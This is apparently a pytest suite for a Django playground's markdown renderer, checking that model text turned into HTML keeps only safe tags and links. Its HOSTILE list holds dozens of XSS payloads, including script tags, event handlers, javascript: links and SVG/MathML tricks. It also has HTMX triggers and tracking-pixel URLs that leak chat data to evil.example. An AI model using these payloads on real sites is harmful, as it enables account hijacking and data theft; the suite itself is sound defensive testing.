"""A model's text as HTML: what it becomes, and that nothing dangerous survives."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.utils import translation

from playground.markdown import CLEANER, render
from playground.maths import mathml

SAFE_TAGS = {
    "p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "s", "blockquote", "ul", "ol", "li", "a", "code", "pre",
    "table", "thead", "tbody", "tr", "th", "td", "div", "span", "button", "math", "mrow", "mi", "mn", "mo", "msup",
    "msub", "mfrac", "mtext", "mspace", "munderover", "mtable", "mtr", "mtd", "mstyle",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "class", "href", "title", "rel", "target", "start", "tabindex", "type", "data-copy-code", "display", "stretchy",
    "fence", "form", "columnalign", "columnspacing", "rowspacing", "displaystyle", "scriptlevel", "width",
}  # fmt: skip


class Elements(HTMLParser):
    """Every tag and attribute that a browser would make of the markup."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


HOSTILE = [
    # Comments and conditional ones, CDATA, processing instructions.
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--\n\n<img src=x onerror=alert(1)>\n\n-->",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    # CSS in every place it may stand.
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='background:url(https://evil.example/pixel)' class='toast'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "| a |\n|:-:|\n| <td style='position:fixed'>x</td> |",
    # SVG and what it can carry.
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # data: links, and schemes that only look like harmless ones.
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](https&#58;//e.example\tonclick=alert(1))",
    "[x](blob:https://evil.example/1)",
    "[x](intent://evil#Intent;scheme=http;end)",
    # Remote images in every way there is to write one.
    "![a](//evil.example/pixel.png)",
    "![a](<https://evil.example/pixel.png?chat=secret>)",
    "<picture><source srcset=https://evil.example/pixel.png></picture>",
    "<video poster=https://evil.example/pixel.png src=https://evil.example/v>",
    "<input type=image src=https://evil.example/pixel.png>",
    "<body background=https://evil.example/pixel.png>",
    "<table background=https://evil.example/pixel.png><tr><td>x</table>",
    "[![a](https://evil.example/p.png)](javascript:alert(1))",
    # Right to left, and letters that are not seen.
    "\u202e\u2066evil\u2069.example\u202c [https://bank.example](https://evil.example)",
    "[a\u202eb](https://e.example/\u202egnp.exe)",
    "`code\u202e reversed`",
    # HTMX would act on its attributes: a model must not speak to this site in the reader's name.
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>",
    "<button hx-post=/keys/new/ data-hx-trigger=load>x</button>",
    "<a href=https://e.example data-copy=x data-opens='#confirm-dialog'>x</a>",
    '```"><div hx-get="/keys/" hx-trigger="load">\ncode\n```',
    "<form><button formaction=javascript:alert(1)>x</form>",
    "<textarea name=message form=composer>x</textarea>",
    "<input name=tools form=composer value=x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "$\\class{toast}{x} \\cssId{main}{x} \\style{position:fixed}{x}$",
    "<script>alert(1)</script>",
    "text <script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{background:url(https://evil.example/?leak)}</style>",
    '<p style="position:fixed;inset:0">cover</p>',
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<!-- a comment --><!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/accounts/logout/)",
    '[x](https://e.example "\\" onclick=alert(1) x=\\"")',
    "![alt](https://evil.example/pixel.png)",
    "![alt](data:image/svg+xml;base64,PHN2Zy8+)",
    '!["onerror=alert(1)//](x)',
    "[![alt](https://evil.example/pixel.png)](https://e.example)",
    "![ref][leak]\n\n[leak]: https://evil.example/pixel.png?chat",
    "[x][bad]\n\n[bad]: javascript:alert(1)",
    "<https://evil.example/auto>",
    "https://evil.example/bare and www.evil.example and mail@evil.example",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onmouseover=alert(1)\ncode\n```",
    "`<script>alert(1)</script>`",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "$<script>alert(1)</script>$",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "- <script>\n- alert(1)\n- </script>",
    "access \u202egnp.exe\u202c and \u2066isolate\u2069 and \u061carabic mark",
    "null \x00 byte <scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_dangerous_comes_out(text: str) -> None:
    elements = Elements(render(text))
    assert not elements.comments
    for tag, attributes in elements.found:
        assert tag in SAFE_TAGS
        assert set(attributes) <= SAFE_ATTRIBUTES
        if tag == "a":
            assert (attributes["href"] or "").startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.parametrize("mark", ["\u202e", "\u202a", "\u2066", "\u2069", "\x00", "\x1b"])
def test_marks_that_turn_text_round_are_taken_out(mark: str) -> None:
    assert render(f"a{mark}b") == "<p>ab</p>\n"


def test_the_allow_list_alone_would_hold_too() -> None:
    cleaned = CLEANER.clean(
        '<script>x</script><img src="https://e.example/x"><a href="javascript:x" onclick="x">y</a><svg><g/></svg>'
        '<p style="color:red" id="main">z</p><math><mrow href="javascript:x"><mi>a</mi></mrow></math>'
    )
    assert cleaned == (
        '<a target="_blank" rel="noopener noreferrer nofollow">y</a><p>z</p><math><mrow><mi>a</mi></mrow></math>'
    )


LARGE = {
    "nested quotes of three kinds": "> - 1. " * 5_000 + "deep",
    "nested links": "[" * 5_000 + "a" + "](https://e.example)" * 5_000,
    "comments": "<!--" * 20_000,
    "nested quotes": "> " * 10_000 + "deep",
    "nested quotes without spaces": ">" * 10_000,
    "nested lists": "- " * 10_000 + "deep",
    "open brackets": "[" * 10_000,
    "open images": "![" * 10_000,
    "emphasis": "*a_ " * 10_000,
    "bold": "**a *b " * 10_000,
    "backticks": "".join("`" * count + " " for count in range(300)),
    "dollars": "$a " * 10_000,
    "LaTeX groups": "$" + "{" * 3_000 + "$",
    "LaTeX roots": "$" + "\\sqrt" * 800 + "$",
    "LaTeX powers": "$" + "a^{" * 800 + "}" * 800 + "$",
    "LaTeX fences": "$" + "\\left(" * 600 + "$",
    "open formulas": "\\[\n" * 3_000,
    "table": "|" * 3_000 + "\n" + "|-" * 3_000 + "|\n" + "|a|\n" * 2_000,
    "half links": "[a](b" * 10_000,
    "half tags": "<a " * 20_000,
    "definitions": "[a]:" + "b\n" * 10_000,
    "lines": "a\n" * 20_000,
    "entities": "&" * 40_000,
    "code": "```python\n" + "x = 1  # y\n" * 5_000,
}


# Each takes well under five seconds; what this catches is a text that takes minutes.
@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", LARGE)
def test_large_and_nested_text_is_rendered_in_bounded_time(name: str) -> None:
    assert Elements(render(LARGE[name])).found


def test_emphasis_lists_and_headings() -> None:
    assert render("# Title\n\nSome **bold**, *slanted* and ~~struck~~ text.\n\n- one\n- two\n") == (
        "<h3>Title</h3>\n<p>Some <strong>bold</strong>, <em>slanted</em> and <s>struck</s> text.</p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
    )


def test_headings_stay_below_those_of_the_page() -> None:
    assert render("## a\n\n##### b") == "<h4>a</h4>\n<h6>b</h6>\n"


def test_links_open_apart_and_tell_nothing() -> None:
    assert render("[docs](https://a.example/?a=1&b=2)") == (
        '<p><a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>\n'
    )


def test_an_image_is_its_words_and_its_address() -> None:
    assert render("![a cat](https://example.com/cat.png)") == (
        '<p><span class="image-text">a cat</span> <code>https://example.com/cat.png</code></p>\n'
    )


def test_table_cells_are_aligned_by_class() -> None:
    assert 'class="align-right">1</td>' in render("| a |\n|--:|\n| 1 |\n")


def test_code_is_coloured_and_named() -> None:
    with translation.override("en"):
        html = render("```python\ndef f(): ...\n```")
    assert (
        '<span>Python</span><button type="button" class="button button-quiet button-small" data-copy-code="">' in html
    )
    assert '<span class="k">def</span>' in html


def test_code_of_an_unknown_language_stays_as_it_is() -> None:
    html = render("```no-such-language\na < b\n```")
    assert "<span>no-such-language</span>" in html
    assert '<code class="highlight">a &lt; b\n</code>' in html


def test_inline_and_display_formulas_become_mathml() -> None:
    assert render("$x$") == '<p><math display="inline"><mrow><mi>x</mi></mrow></math></p>\n'
    assert render("\\(x\\)") == render("$x$")
    assert render("$$\nx\n$$") == '<p class="math-display"><math display="block"><mrow><mi>x</mi></mrow></math></p>\n'
    assert render("\\[\nx\n\\]") == render("$$\nx\n$$")


def test_money_is_no_formula() -> None:
    assert render("It costs $5 today and $10 tomorrow.") == "<p>It costs $5 today and $10 tomorrow.</p>\n"


@pytest.mark.parametrize("latex", [r"\frac{a}{", "a_", r"\begin{pmatrix}"])
def test_what_is_no_latex_stays_text(latex: str) -> None:
    assert mathml(latex, display=False) is None
    assert render(f"${latex}$") == f'<p><code class="latex">{latex}</code></p>\n'


def test_an_aligned_formula_with_plus_signs_stays_one_formula() -> None:
    html = render("\\[\n\\begin{aligned}\na &= b \\\\\n+ c &= d\n\\end{aligned}\n\\]")
    assert html.count("<math") == 1
    assert html.count("<mtr>") == 2
